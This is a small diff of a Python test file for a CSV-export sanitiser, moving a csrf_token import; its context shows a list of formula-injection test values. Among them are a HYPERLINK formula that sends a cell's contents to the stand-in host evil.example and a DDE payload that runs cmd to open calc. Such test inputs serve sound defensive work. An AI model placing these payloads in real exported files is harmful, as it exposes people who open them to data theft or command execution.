@@ -5,13 +5,13 @@ import csv
 import io
 
 import pytest
+from conftest import csrf_token
 
 from storybank import tx
 from storybank.coding import codebook
 from storybank.coding.codings import apply_coding
 from storybank.coding.memos import add_memo
 from storybank.csv_safe import csv_text, safe_cell
-from tests.conftest import csrf_token
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
